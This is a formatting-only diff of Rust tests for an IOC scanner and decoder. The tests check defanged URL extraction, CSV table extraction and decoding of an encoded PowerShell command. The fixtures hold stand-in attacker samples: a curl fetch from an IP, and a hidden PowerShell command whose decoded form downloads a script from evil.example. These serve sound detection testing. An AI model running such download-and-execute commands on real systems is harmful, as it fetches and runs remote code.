@@ -23,7 +23,14 @@ fn scanner_finds_defanged_iocs_across_chunks() {
         .iter()
         .map(|i| get(&i, "Refanged").as_string().unwrap())
         .collect();
-    assert_eq!(values, ["https://evil.example.com/a.php", "evil.example.com", "10.1.2.3"]);
+    assert_eq!(
+        values,
+        [
+            "https://evil.example.com/a.php",
+            "evil.example.com",
+            "10.1.2.3"
+        ]
+    );
     assert_eq!(get(&get(&result, "counts"), "ipv4").as_f64(), Some(1.0));
 }
 
@@ -42,10 +49,18 @@ fn bad_options_raise_errors_with_a_kind() {
 fn table_extraction_returns_arrow() {
     let csv = b"host,cmd\nh1,curl http://1.2.3.4/x\n";
     let bytes = extract_ioc_table(csv, "csv", JsValue::UNDEFINED).unwrap();
-    assert_eq!(&bytes[..4], &[0xff, 0xff, 0xff, 0xff], "an Arrow IPC stream");
-    let err = extract_ioc_table(b"a\nx\n", "csv", js_sys::JSON::parse(r#"{"columns":["Cmd"]}"#).unwrap())
-        .err()
-        .unwrap();
+    assert_eq!(
+        &bytes[..4],
+        &[0xff, 0xff, 0xff, 0xff],
+        "an Arrow IPC stream"
+    );
+    let err = extract_ioc_table(
+        b"a\nx\n",
+        "csv",
+        js_sys::JSON::parse(r#"{"columns":["Cmd"]}"#).unwrap(),
+    )
+    .err()
+    .unwrap();
     assert_eq!(get(&err, "kind").as_string().unwrap(), "missing_column");
 }
 
@@ -60,7 +75,10 @@ fn decode_powershell_encoded_command() {
     let text = format!("powershell.exe -nop -w hidden -EncodedCommand {b64}");
     let result = decode_text(&text, JsValue::UNDEFINED).unwrap();
     let annotated = get(&result, "annotated").as_string().unwrap();
-    assert!(annotated.contains("DownloadString('http://evil.example/a.ps1')"), "{annotated}");
+    assert!(
+        annotated.contains("DownloadString('http://evil.example/a.ps1')"),
+        "{annotated}"
+    );
     assert_eq!(ioc_types().len(), 14);
     // Numbers from JS are accepted for integer limits; a mistyped one is not.
     let limits = js_sys::JSON::parse(r#"{"max_depth": 1, "max_total_bytes": 1000000}"#).unwrap();
@@ -74,7 +92,9 @@ fn base64_encode(bytes: &[u8]) -> String {
     const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let mut out = String::new();
     for c in bytes.chunks(3) {
-        let n = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
+        let n = (c[0] as u32) << 16
+            | (*c.get(1).unwrap_or(&0) as u32) << 8
+            | *c.get(2).unwrap_or(&0) as u32;
         for i in 0..4 {
             if i <= c.len() {
                 out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
